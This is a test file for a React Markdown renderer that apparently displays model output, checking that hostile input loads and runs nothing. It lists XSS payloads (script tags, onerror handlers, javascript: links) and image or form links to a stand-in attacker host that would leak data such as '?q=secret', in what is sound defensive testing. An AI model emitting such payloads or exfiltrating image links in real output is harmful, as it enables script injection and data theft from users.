import { cleanup, fireEvent, render } from '@testing-library/react'
import { afterEach, describe, expect, it, vi } from 'vitest'
import { Markdown, safe } from '../src/markdown'

afterEach(cleanup)

function shown(text: string, sources = 0, onSource = () => {}) {
  return render(<Markdown text={text} sources={sources} onSource={onSource} />).container
}

// Whoever writes a document can make a model write this.
const HOSTILE = [
  '<script>window.bad = 1</script>',
  '<img src=x onerror="window.bad = 1">',
  'text <iframe src="https://evil.example"></iframe> text',
  '<style>body { display: none }</style>',
  '<svg onload=alert(1)><use href="https://evil.example/x#y"></svg>',
  '<a href="javascript:alert(1)">x</a>',
  '![x](https://evil.example/?q=secret)',
  '![x](data:image/svg+xml;base64,PHN2Zy8+)',
  '[![x](https://evil.example/a.png)](https://evil.example)',
  '![x][ref]\n\n[ref]: https://evil.example/?q=secret',
  '<form action="https://evil.example"><input name=q></form>',
  '<link rel=stylesheet href="https://evil.example/x.css"><meta http-equiv=refresh content="0;url=https://evil.example">',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
  '> <object data="https://evil.example"></object>',
  '1. <video src="https://evil.example/x.mp4" autoplay></video>',
]
const LOADS = 'script,img,iframe,style,svg,object,embed,video,audio,source,link,meta,form,input,base,[src],[style],[srcset],[onerror],[onload]'

describe('hostile Markdown', () => {
  it.each(HOSTILE)('loads and runs nothing: %s', (text) => {
    const box = shown(text)
    expect(box.querySelectorAll(LOADS)).toHaveLength(0)
    expect((window as { bad?: number }).bad).toBeUndefined()
    // What was meant as a tag is there to be read, or is a link that somebody has to follow.
    expect(box.textContent?.length).toBeGreaterThan(0)
  })

  it.each([
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    'java\nscript:alert(1)',
    '\u0001javascript:alert(1)',
    'data:text/html,<script>1</script>',
    'vbscript:x',
    'file:///etc/passwd',
    'blob:https://a.example/x',
    '//evil.example',
    '/sign-in#token_hash=x',
    'x',
    '',
  ])('leads nowhere: %j', (href) => {
    expect(safe(href)).toBe(false)
    expect(shown(`[x](<${href.replace(/\n/g, '')}>)`).querySelector('a')).toBeNull()
  })

  it('leads to the web in another tab, which learns nothing of this one', () => {
    const link = shown('[x](https://good.example/a)').querySelector('a')
    expect(link?.getAttribute('href')).toBe('https://good.example/a')
    expect(link?.getAttribute('rel')).toContain('noopener')
    expect(link?.getAttribute('target')).toBe('_blank')
  })

  it('shows entities as what they are, once', () => {
    expect(shown('a &lt;b&gt; &amp;amp; &#39;c&#x27; &copy &#0; &unknown; <').textContent).toBe(
      "a <b> &amp; 'c' &copy \uFFFD &unknown; <",
    )
  })

  it('survives what has no end', () => {
    for (const text of ['```js\nlet a', '**a', '| a | b |\n|--', '[a](', '> - 1. **', '`', '<', '[1', '\\', '#', '- [ ] '])
      expect(() => shown(text)).not.toThrow()
    expect(() => shown('> '.repeat(500) + 'x')).not.toThrow()
    expect(() => shown('*'.repeat(5000))).not.toThrow()
  })
})

describe('Markdown', () => {
  it('is tables, code, lists and headings below those of the page', () => {
    const box = shown('# A\n\n## B\n\n| a | b |\n|:-|-:|\n| 1 | 2<br>3 |\n\n```py\nx = 1 < 2\n```\n\n1. one\n   - two\n\n- [x] done')
    expect([...box.querySelectorAll('h3,h4')].map((heading) => heading.textContent)).toEqual(['A', 'B'])
    expect(box.querySelectorAll('td')[1]?.innerHTML).toBe('2<br>3')
    expect(box.querySelector('pre code')?.textContent).toBe('x = 1 < 2')
    expect(box.querySelector('figcaption')?.textContent).toContain('py')
    expect(box.querySelector('ol ul li')?.textContent).toBe('two')
    expect(box.querySelector('li.task')?.textContent).toContain('done')
  })

  it('has a button for each source that there is, and for no other', () => {
    const open = vi.fn()
    const box = shown('Two years [1][2], `[1]`, [3], [0] and [12].', 2, open)
    const buttons = [...box.querySelectorAll<HTMLButtonElement>('button.reference')]
    expect(buttons.map((button) => button.textContent)).toEqual(['1', '2'])
    fireEvent.click(buttons[1] as HTMLButtonElement)
    expect(open).toHaveBeenCalledWith(2)
    expect(box.textContent).toContain('[3], [0] and [12].')
  })

  it('renders only the block that grows', () => {
    const text = 'First block.\n\nSecond'
    const { container, rerender } = render(<Markdown text={text} sources={0} onSource={() => {}} />)
    const first = container.querySelector('p')
    const before = first?.firstChild
    rerender(<Markdown text={`${text} grows`} sources={0} onSource={() => {}} />)
    expect(container.querySelector('p')).toBe(first)
    expect(first?.firstChild).toBe(before)
    expect(container.textContent).toContain('Second grows')
  })
})
